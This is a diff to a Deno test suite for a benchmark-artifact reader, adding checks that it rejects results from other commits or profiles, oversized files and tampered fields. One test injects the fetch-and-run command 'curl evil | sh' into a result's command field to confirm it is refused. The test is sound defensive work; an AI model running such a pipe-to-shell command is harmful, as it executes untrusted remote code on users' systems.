@@ -3,6 +3,8 @@ import { dirname, join } from "@std/path";
 import { exampleRun } from "../testing/example_run.ts";
 import { scenarioIds } from "../scenario/ids.ts";
 import type { Result } from "../results/result_schema.ts";
+import { exampleBursts } from "../testing/example_bursts.ts";
+import { asMeasured, measured } from "../testing/remote.ts";
 import { type Artifacts, readArtifacts } from "./result_artifacts.ts";
 
 const runId = "20260105T000000Z-0000000";
@@ -13,7 +15,7 @@ const runIds = { "jwt-mysql": runId, "hello": helloRunId };
 function textOf(implId: string, change: (result: Result) => void = () => {}, id = runId): string {
   const result = exampleRun(id).find(({ impl }) => impl.id === implId)!;
   change(result);
-  return JSON.stringify(result);
+  return JSON.stringify(asMeasured(result));
 }
 
 /** Reads a folder of artifacts with these files, after what is added to it. */
@@ -29,7 +31,7 @@ async function read(
       await Deno.writeTextFile(join(folder, path), text);
     }
     await add(folder);
-    return await readArtifacts(folder, { runIds, attempts, kind: "result" });
+    return await readArtifacts(folder, { ...measured, runIds, attempts, kind: "result" });
   } finally {
     await Deno.remove(folder, { recursive: true });
   }
@@ -96,11 +98,50 @@ Deno.test("readArtifacts() refuses what is of another run, another name, incompl
   ]);
   const other = textOf("swift", ({ provenance }) => provenance.commit = "1".repeat(40));
   assertEquals(await problemOf(other), [
-    `${cannot} it was measured at commit 1111111, expected the run's own`,
+    `${cannot} it was measured at commit ${"1".repeat(40)}, expected the run's own, ${measured.commit}`,
   ]);
+  const sameStart = textOf("swift", ({ provenance }) => provenance.commit = "0".repeat(39) + "1");
+  assertMatch((await problemOf(sameStart)).join(), /at commit 0{39}1, expected the run's own/);
   assertEquals(await problemOf(" ".repeat(11 * 1024 ** 2)), [
-    `${cannot} it has 11534336 bytes, expected 10485760 at most`,
+    `${cannot} it has 11534336 bytes, expected 2097152 at most`,
   ]);
+});
+
+Deno.test("readArtifacts() lets no result decide for the others of its run whether it is ranked, when it was, or what readers are told to run", async () => {
+  const cannot = 'Cannot use "result-jwt-mysql-swift.1/swift.json":';
+  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.reproduces = "an-article")), [
+    `${cannot} it has the settings of an article, expected the profile's`,
+  ]);
+  assertEquals(await problemOf(textOf("swift", ({ plan }) => plan.profile = "quick")), [
+    `${cannot} it was measured with the profile quick, expected ${measured.profile}`,
+  ]);
+  const written = textOf("swift").replace(/"command":"[^"]+"/, '"command":"curl evil | sh"');
+  assertMatch(
+    (await problemOf(written)).join(),
+    /its command is "curl evil \| sh", expected "npx rust-just bench swift /,
+  );
+  for (const startedAt of ["0001-01-01T00:00:00.000Z", "9999-01-01T00:00:00.000Z"]) {
+    const moved = textOf("swift").replace(/"startedAt":"[^"]+"/, `"startedAt":"${startedAt}"`);
+    assertEquals(await problemOf(moved), [
+      `${cannot} it began at ${startedAt}, expected a time between the start of its run and now`,
+    ]);
+  }
+});
+
+Deno.test("readArtifacts() reads the others where a file is too much for what computes figures, or has very many mistakes", async () => {
+  const [bursts] = exampleBursts(runId);
+  const [step] = bursts!.bursts!.steps;
+  step!.users = Number.MAX_SAFE_INTEGER;
+  step!.rounds.forEach((round, index) => round.answered = 2 ** (50 + index));
+  const { results, damaged } = await read({
+    "result-delay-steady.1/steady.json": JSON.stringify(bursts),
+    "result-jwt-mysql-even.1/even.json": `{"levels":[${"1,".repeat(9_999)}1]}`,
+    "result-jwt-mysql-swift.1/swift.json": textOf("swift"),
+  });
+  assertEquals(results.map(({ result }) => result.impl.id), ["swift"]);
+  assertEquals(damaged.length, 2);
+  assertMatch(damaged[0]!, /^Cannot use "result-delay-steady.1\/steady.json": /);
+  assertMatch(damaged[1]!, /^Cannot parse "result-jwt-mysql-even.1\/even.json": /);
 });
 
 Deno.test("readArtifacts() takes no result of one implementation from the artifact of another", async () => {
@@ -214,7 +255,7 @@ Deno.test("readArtifacts() reads nothing of a file of 100 MB, of very many files
   });
   assertEquals(results, []);
   assertEquals(damaged, [
-    'Cannot use "result-jwt-mysql-big/big.json": it has 100000000 bytes, expected 10485760 at most',
+    'Cannot use "result-jwt-mysql-big/big.json": it has 100000000 bytes, expected 2097152 at most',
     'Cannot use "result-jwt-mysql-deep/a/a/a/a/a/a": it is not a file, expected a result',
     'Cannot use "result-jwt-mysql-many": it holds more than 20 files, expected one',
   ]);
@@ -222,7 +263,7 @@ Deno.test("readArtifacts() reads nothing of a file of 100 MB, of very many files
 
 Deno.test("readArtifacts() finds nothing where no job has left anything", async () => {
   const { results, damaged } = await readArtifacts("/no such folder", {
-    ...{ runIds, attempts: 1, kind: "result" },
+    ...{ ...measured, runIds, attempts: 1, kind: "result" },
   });
   assertEquals([results, damaged], [[], []]);
 });
